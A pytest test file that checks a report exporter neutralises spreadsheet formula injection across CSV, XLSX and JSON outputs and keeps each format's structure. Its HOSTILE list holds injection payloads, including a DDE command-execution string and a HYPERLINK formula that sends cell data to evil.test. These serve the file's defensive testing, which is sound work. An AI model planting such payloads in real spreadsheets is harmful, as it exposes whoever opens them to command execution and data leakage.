"""CSV, XLSX and JSON say the same, and no spreadsheet runs what a directory holds."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import msgspec
import openpyxl  # type: ignore[import-untyped]  # openpyxl ships no types
import pytest
from hypothesis import given
from hypothesis import strategies as st

from reconciler.estate.results import Finding, Outcome, RuleInfo, Run, Scope, State
from reconciler.estate.tables import Coverage
from reconciler.report import ReportModel, build, write
from reconciler.report.delimited import to_csv
from reconciler.report.machine import to_json
from reconciler.report.neutral import neutral
from reconciler.report.page import to_html
from reconciler.report.treated import Treated
from reconciler.report.workbook import CELL_LIMIT, to_xlsx
from tests.report.made_up import AS_OF, finding, read, rule, run

HOSTILE = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    '"=1+1',
    "'=1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "\u201c=1+1",
    "harmless;=1+1",
    "harmless\n=1+1",
    "harmless\t@SUM(1)",
    '=HYPERLINK("http://evil.test?x="&A1,"click")',
]
HARMLESS = [
    "",
    "Ada Byron",
    "a=b",
    "user@example.test",
    "IG-LVR-001",
    "1-2",
    "x + y",
    "O'Brien",
    "(-)",
    "王小明",
    "a;b",
]


def runs(cell: str) -> bool:
    """Whether a spreadsheet might run the cell, or a part of it after another separator."""
    parts = re.split(r"[;\t\r\n]", cell)
    return any(part.strip().startswith(tuple("=+-@＝＋－＠")) for part in parts)  # noqa: RUF001  look-alikes are meant


@pytest.mark.parametrize("text", HOSTILE)
def test_every_part_that_a_spreadsheet_might_run_is_neutralised(text: str) -> None:
    safe = neutral(text)
    assert safe != text
    assert safe.replace("'", "") == text.replace("'", "")
    assert not runs(safe)


@given(st.text(alphabet="=+-@;'\" \t\r\n\u200b\u00a0\uff1d\uff0da1", max_size=12))
def test_no_text_at_all_gets_past_the_neutraliser(text: str) -> None:
    assert not runs(neutral(text))
    assert [c for c in neutral(text) if c != "'"] == [c for c in text if c != "'"]


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert neutral(text) == text


def hostile_model(text: str) -> ReportModel:
    """A report in which every text that comes from outside is ``text``."""
    info = msgspec.structs.replace(
        rule(),
        name=text,
        title=text,
        why=text,
        remedy=text,
        known_gaps=(text,),
        parameters={"words": text},
        population=text,
        stage=text,
        layer=text,
    )
    bad = finding(1, rule=text, reason=text, person_id=text, source=text, subject={"account_id": text, "source": text})
    night = run(
        rules=(info,),
        scopes={"IG-LVR-001": (Scope(source=text, blocked=(text,)), Scope(source="b", population=1, violations=1))},
        coverage=(read(text, text, partition=text, status="FAILED", gaps=[text], canaries=[text]),),
        estate=text,
        run_id=text,
        snapshot=text,
        digest=text,
    )
    return build(night, [bad], time_zone="UTC")


@pytest.mark.parametrize("text", HOSTILE)
def test_no_csv_field_starts_a_formula(text: str) -> None:
    lines = list(csv.reader(io.StringIO(to_csv(hostile_model(text)).decode("utf-8-sig"), newline="")))
    cells = [cell for line in lines[1:] for cell in line]
    assert len([cell for cell in cells if neutral(text) in cell]) >= 15
    assert [cell for cell in cells if runs(cell)] == []


@pytest.mark.parametrize("text", HOSTILE)
def test_every_xlsx_text_is_a_text_cell_and_neutralised(text: str, tmp_path: Path) -> None:
    write(hostile_model(text), "xlsx", tmp_path / "r.xlsx")
    book = read_book((tmp_path / "r.xlsx").read_bytes())
    seen = 0
    for sheet in book:
        for cell in (cell for line in sheet.iter_rows() for cell in line if cell.value is not None):
            assert cell.data_type in {"s", "n"}, (sheet.title, cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                assert not runs(cell.value)
                seen += neutral(text).replace("\r", "\n") in cell.value.replace("_x000D_", "\n")
    assert seen >= 15
    assert all(sheet.auto_filter.ref for sheet in book if sheet.title != "Summary")


@pytest.mark.parametrize("text", HOSTILE)
def test_json_keeps_the_text_as_it_is(text: str) -> None:
    document = json.loads(to_json(hostile_model(text)))
    item = document["findings"][0]
    assert [item[key] for key in ("rule", "reason", "person_id", "source")] == [text] * 4
    assert item["subject"] == {"account_id": text, "source": text}
    assert document["coverage"]["reads"][0]["gaps"] == [text]


def mixed() -> tuple[Run, list[Finding]]:
    rules: list[RuleInfo] = [rule(), rule("IG-APR-001"), rule("IG-CRD-001")]
    scopes: dict[str, tuple[Scope, ...]] = {
        "IG-LVR-001": (Scope(source="corp-ldap", population=10, violations=1, passes=3, not_evaluable=6),),
        "IG-APR-001": (Scope(source="aws", blocked=("aws grants FAILED: refused.",)),),
    }
    coverage: tuple[Coverage, ...] = (
        read(),
        read("aws", "grants", status="FAILED", rows=None, provider_count=40, gaps=["refused"], partition="1111"),
    )
    findings = [
        finding(1),
        finding(2, state=State.RESOLVED, resolved_at=AS_OF),
        finding(3, verdict=Outcome.NOT_EVALUABLE, person_id=None),
        finding(4, "IG-APR-001", source="aws", verified=False, state=State.PERSISTING),
    ]
    return run(rules=rules, scopes=scopes, coverage=coverage), findings


def test_json_has_its_documented_shape_and_keeps_unknown_as_null() -> None:
    night, findings = mixed()
    document = json.loads(to_json(build(night, findings, time_zone="Europe/Amsterdam")))
    assert (document["format"], document["version"], document["estate"]) == ("reconciler.report", 1, "acme")
    assert document["as_of"] == "2026-11-21T02:15:00Z"
    assert document["coverage"]["complete"] is False
    failed = document["coverage"]["reads"][0]
    assert (failed["source"], failed["rows"], failed["provider_count"]) == ("aws", None, 40)
    assert document["coverage"]["not_judged"] == [
        {"rule_id": "IG-APR-001", "source": "aws", "reasons": ["aws grants FAILED: refused."]},
        {"rule_id": "IG-CRD-001", "source": None, "reasons": ["No source reports what this rule reads."]},
    ]
    rates = {r["rule_id"]: [s["pass_rate"] for s in r["scopes"]] for r in document["rules"]}
    assert rates == {"IG-LVR-001": [0.75], "IG-APR-001": [None], "IG-CRD-001": []}
    contract = {"finding_id", "rule_id", "rule", "verdict", "severity", "state", "source", "subject", "reason"}
    contract |= {"person_id", "first_seen", "last_seen"}
    assert all(contract <= set(item) for item in document["findings"])
    states = [(item["verdict"], item["state"], item["verified"]) for item in document["findings"]]
    assert states == [
        ("violation", "new", True),
        ("violation", "persisting", False),
        ("not_evaluable", "new", True),
        ("violation", "resolved", True),
    ]
    assert document["findings"][2]["person_id"] is None
    assert document["findings"][3]["resolved_at"] == "2026-11-21T02:15:00Z"
    assert document["violations"]["high"] == {
        "open": 1,
        "new": 0,
        "reopened": 0,
        "persisting": 0,
        "unverified": 1,
        "held": 0,
        "suppressed": 0,
        "resolved": 0,
    }


def test_csv_names_the_gaps_beside_the_findings_and_reads_back() -> None:
    night, findings = mixed()
    raw = to_csv(build(night, findings, time_zone="UTC"))
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.count(b"\r\n") == raw.count(b"\n") == 1 + 1 + 1 + 2 + 4
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert [row["record"] for row in rows] == ["run", "not_read", "not_judged", "not_judged", *["finding"] * 4]
    assert "1 violation stands: 1 critical; 1 more is last known" in rows[0]["reason"]
    assert rows[1]["reason"] == "grants: FAILED (partitions 1111). refused"
    assert rows[2]["source"] == "aws"
    assert rows[4]["subject_account_id"] == "account_id-00001"
    assert rows[5]["verified"] == "no"
    assert {row["run_id"] for row in rows} == {night.run_id}


def test_a_csv_without_findings_still_says_whether_all_was_seen() -> None:
    rows = list(csv.DictReader(io.StringIO(to_csv(build(run(), [], time_zone="UTC")).decode("utf-8-sig"))))
    assert [(row["record"], row["reason"]) for row in rows] == [("run", "No violations stand.")]


def read_book(raw: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(raw))


def lines(sheet: Any) -> Iterator[dict[str, Any]]:
    head, *body = sheet.iter_rows(values_only=True)
    return (dict(zip(head, line, strict=True)) for line in body)


def test_the_workbook_has_its_sheets_with_figures_as_numbers(tmp_path: Path) -> None:
    night, findings = mixed()
    write(build(night, findings, time_zone="UTC"), "xlsx", tmp_path / "r.xlsx")
    book = read_book((tmp_path / "r.xlsx").read_bytes())
    assert book.sheetnames == ["Summary", "Findings", "Nonconformities", "Exceptions", "Coverage", "Rules"]
    found = list(lines(book["Findings"]))
    assert [row["finding_id"] for row in found] == [f.finding_id for f in (findings[i] for i in (0, 3, 2, 1))]
    assert found[2]["person_id"] is None
    assert book["Findings"].freeze_panes == "A2"
    coverage = list(lines(book["Coverage"]))
    assert [(row["source"], row["rows"], row["provider_count"]) for row in coverage] == [
        ("aws", None, 40),
        ("corp-ldap", 512, None),
    ]
    rules = list(lines(book["Rules"]))
    assert [(row["rule_id"], row["population"], row["pass_rate"]) for row in rules] == [
        ("IG-LVR-001", 10, "75.0 %"),
        ("IG-APR-001", 0, None),
        ("IG-CRD-001", None, None),
    ]
    assert rules[2]["not_judged_because"] == "No source reports what this rule reads."
    summary = dict(line[:2] for line in book["Summary"].iter_rows(values_only=True) if line[0])
    assert summary["run_id"] == night.run_id
    assert summary["as_of"] == "2026-11-21T02:15:00Z"
    assert summary["filter"].startswith("none")
    assert summary["aws grants"] == "FAILED. 1111 refused"
    assert summary["critical"] == 1


@pytest.mark.parametrize(
    ("changes", "said"),
    [({}, ("nothing", "Every source was read whole")), ({"coverage": ()}, ("everything", "Nothing was read."))],
)
def test_the_workbooks_summary_says_what_was_not_seen(changes: dict[str, Any], said: tuple[str, str]) -> None:
    book = read_book(to_xlsx(build(run(**changes), [], time_zone="UTC")))
    summary = dict(line[:2] for line in book["Summary"].iter_rows(values_only=True))
    assert summary[said[0]].startswith(said[1])


def test_a_text_too_long_for_a_cell_is_cut_visibly_not_dropped() -> None:
    book = read_book(to_xlsx(build(run(), [finding(1, reason="x" * 40_000)], time_zone="UTC")))
    reason = next(lines(book["Findings"]))["reason"]
    assert len(reason) == CELL_LIMIT
    assert reason.endswith("the JSON report has it whole)")


def test_findings_that_do_not_fit_a_sheet_go_on_in_the_next() -> None:
    book = read_book(to_xlsx(build(run(), [finding(n) for n in range(7)], time_zone="UTC"), row_limit=4))
    assert [name for name in book.sheetnames if name.startswith("Find")] == ["Findings", "Findings 2", "Findings 3"]
    ids = [row["finding_id"] for name in book.sheetnames[1:4] for row in lines(book[name])]
    assert len(set(ids)) == len(ids) == 7


def test_tables_say_by_which_values_a_rule_judged() -> None:
    model = build(run(rules=(rule(parameters={"grace": "24 hours", "words": "a, b"}),)), [], time_zone="UTC")
    (row, *_) = lines(read_book(to_xlsx(model))["Rules"])
    assert row["parameters"] == "grace: 24 hours; words: a, b"
    assert json.loads(to_json(model))["rules"][0]["parameters"] == {"grace": "24 hours", "words": "a, b"}


def test_every_table_lists_nonconformities() -> None:
    at = datetime(2026, 11, 1, 2, 15, tzinfo=UTC)
    one = Treated(
        nc_id="NC-000007",
        title="=Leavers in ldap",
        severity="high",
        grade="major",
        state="open",
        rule_id="IG-LVR-001",
        source="corp-ldap",
        supplier_id=None,
        owner_role="it-operations-lead",
        owner=None,
        escalated_to="ciso",
        detected_at=at,
        due_at=at,
        standing=3,
        findings=5,
    )
    model = build(run(), [], time_zone="UTC", nonconformities=[one])
    book = read_book(to_xlsx(model))
    (listed,) = lines(book["Nonconformities"])
    assert (listed["nonconformity"], listed["title"], listed["standing"]) == ("NC-000007", "'=Leavers in ldap", 3)
    (row,) = [
        row
        for row in csv.DictReader(io.StringIO(to_csv(model).decode("utf-8-sig")))
        if row["record"] == "nonconformity"
    ]
    assert row["reason"] == (
        "NC-000007 open, major: =Leavers in ldap; 3 of 5 findings stand; "
        "answers: it-operations-lead (nobody that is known), gone up to ciso; due 2026-11-01"
    )
    (told,) = json.loads(to_json(model))["nonconformities"]
    assert (told["nc_id"], told["owner"], told["due_at"]) == ("NC-000007", None, "2026-11-01T02:15:00Z")
    page = b"".join(to_html(model)).decode()
    assert "NC-000007" in page
    assert "gone up to ciso" in page
